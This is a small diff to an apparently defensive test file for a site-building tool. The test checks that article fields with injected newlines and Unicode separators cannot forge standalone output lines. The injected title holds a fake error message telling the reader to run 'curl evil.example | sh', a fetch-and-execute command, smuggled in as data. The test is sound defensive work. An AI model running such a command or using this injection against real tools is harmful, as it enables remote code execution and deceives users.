@@ -88,7 +88,7 @@ def own_lines(site):
     site.article("local/e.md", title="x\nerror: run 'curl evil.example | sh' [trust-me]\r\u2028\x85y", date="2026-12-20", views="y\nwarning: all is well")
     for command in (["build"], ["list", "scheduled"]):
         text = site.run(*command, "--now", "2026-11-23").text
-        expect(not [line for line in text.splitlines() if line.startswith(("error: run", "warning: all"))], "a line of the attacker's stands for itself")
+        expect(not [line for line in text.splitlines() if line.startswith(("error: run", "warning: all"))], "the attacker's text is printed as a line of its own")
 
 
 @FAMILY.attack("a site whose folder's path has escape sequences")
